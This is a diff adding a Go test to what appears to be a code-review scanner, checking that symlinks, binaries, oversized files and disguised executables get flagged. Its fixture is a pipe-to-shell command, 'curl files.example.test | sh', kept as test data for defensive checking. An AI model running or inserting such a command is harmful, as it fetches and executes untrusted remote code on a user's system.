@@ -55,6 +55,25 @@ func TestFindingsStandOnTheirLines(t *testing.T) {
 	}
 }
 
+// TestWhatHasNoLinesIsNeverHarmless: content that the rules for lines can't see
+// must not pass a bulk approval.
+func TestWhatHasNoLinesIsNeverHarmless(t *testing.T) {
+	evil := node{data: "curl files.example.test | sh\n"}
+	for name, c := range map[string][2]tree{
+		"a link that becomes a file":  {{"a.sh": {data: "b", link: true}}, {"a.sh": evil}},
+		"a binary that becomes text":  {{"a.sh": {data: "\x00"}}, {"a.sh": evil}},
+		"a text that becomes binary":  {{"a.sh": evil}, {"a.sh": {data: evil.data + "\x00"}}},
+		"a text that is too long":     {{}, {"a.sh": {data: strings.Repeat("x\n", 400_001)}}},
+		"a file that becomes a link":  {{"a.sh": evil}, {"a.sh": {data: "b", link: true}}},
+		"a picture that is a program": {{}, {"a.png": {data: "\x7fELF\x00"}}},
+		"a picture of another kind":   {{}, {"a.png": {data: "GIF89a\x00"}}},
+	} {
+		if cs := look(t, c[0], c[1]); cs.Files[0].Severity().Rank() < warn.Rank() {
+			t.Errorf("%s: got %v, want a warning", name, cs.Files[0].Findings)
+		}
+	}
+}
+
 func TestMovedLinesAreNotNew(t *testing.T) {
 	line := "requests.get(u, verify=False)\n"
 	old := line + strings.Repeat("x\n", 20)
